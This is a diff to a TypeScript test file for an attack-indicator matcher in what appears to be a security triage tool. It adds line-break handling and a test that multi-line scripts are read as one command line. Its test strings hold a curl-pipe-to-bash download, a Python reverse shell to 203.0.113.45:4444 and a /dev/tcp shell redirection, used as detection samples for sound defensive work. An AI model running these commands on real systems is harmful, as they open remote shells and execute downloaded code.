@@ -5,8 +5,10 @@ import { indicatorsIn } from '../../../src/triage/rules/indicator-match.js';
 
 const FIELDS: IndicatorField[] = ['command', 'path', 'ancestry', 'file', 'network', 'title'];
 
+/** The patterns themselves, on the text with its line breaks read as command separators (as indicatorsIn does). */
 function direct(field: IndicatorField, text: string) {
-  return ATTACK_INDICATORS.filter((i) => i.fields.includes(field) && i.pattern.test(text));
+  const oneLine = text.replace(/\s*[\r\n]+\s*/g, '; ');
+  return ATTACK_INDICATORS.filter((i) => i.fields.includes(field) && i.pattern.test(oneLine));
 }
 
 const SAMPLES = [
@@ -51,5 +53,14 @@ describe('indicatorsIn', () => {
     const long = `${'a '.repeat(3000)}curl -s http://x/y.sh | bash`;
     expect(indicatorsIn('command', long)).toEqual(direct('command', long));
     expect(indicatorsIn('command', long).length).toBeGreaterThan(0);
+  });
+
+  it('reads a multi-line script as one command line, its line breaks separating commands', () => {
+    const py = 'python3 -c import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("203.0.113.45",4444))\nsubprocess.call(["/bin/sh","-i"])';
+    expect(indicatorsIn('command', py).map((i) => i.id)).toContain('reverse-shell');
+    // trap: a /dev/tcp redirection on the third line of a script is still found
+    expect(indicatorsIn('command', 'sh -c \nexec 5<>/dev/tcp/203.0.113.45/4444\ncat <&5 | sh').map((i) => i.id)).toContain('reverse-shell');
+    // two harmless commands on separate lines do not join into "nc … -e"
+    expect(indicatorsIn('command', 'nc -zv -w 2 db 5432\necho -e done').map((i) => i.id)).not.toContain('reverse-shell');
   });
 });
